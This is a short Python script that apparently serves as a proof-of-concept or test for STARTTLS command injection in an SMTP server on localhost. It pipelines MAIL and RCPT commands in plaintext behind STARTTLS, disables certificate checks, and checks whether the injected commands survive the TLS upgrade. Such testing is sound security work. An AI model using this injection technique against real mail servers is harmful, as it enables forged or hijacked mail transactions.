import socket, ssl, sys
port = int(sys.argv[1])
s = socket.create_connection(('127.0.0.1', port), timeout=20)
def until(sock, marker):
    buf = b''
    while marker not in buf:
        d = sock.recv(4096)
        if not d:
            break
        buf += d
    return buf.decode()
print('greeting', until(s, b'\r\n').split()[0])
# One write: the injected MAIL and RCPT ride behind STARTTLS in plaintext.
s.sendall(b'EHLO client.example\r\nSTARTTLS\r\nMAIL FROM:<evil@remote.example>\r\nRCPT TO:<alice@example.org>\r\n')
pre = until(s, b'220 2.0.0')
print('pre-tls', [l[:3] for l in pre.splitlines() if l[3:4] == ' '])
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
t = ctx.wrap_socket(s)
print('tls', t.version())
t.sendall(b'RCPT TO:<alice@example.org>\r\n')
print('rcpt-after', until(t, b'\r\n').strip())
t.sendall(b'EHLO client.example\r\n')
ehlo = until(t, b'\r\n250 ')
ehlo += until(t, b'\r\n') if not ehlo.endswith('\r\n') else ''
print('starttls-again', 'STARTTLS' in ehlo, 'requiretls', 'REQUIRETLS' in ehlo)
t.sendall(b'MAIL FROM:<good@remote.example>\r\nRCPT TO:<alice@example.org>\r\nDATA\r\n')
print('txn', until(t, b'354').replace('\r\n', '|'))
t.sendall(b'Subject: after tls\r\n\r\nhi\r\n.\r\nQUIT\r\n')
print('end', until(t, b'221').replace('\r\n', '|'))
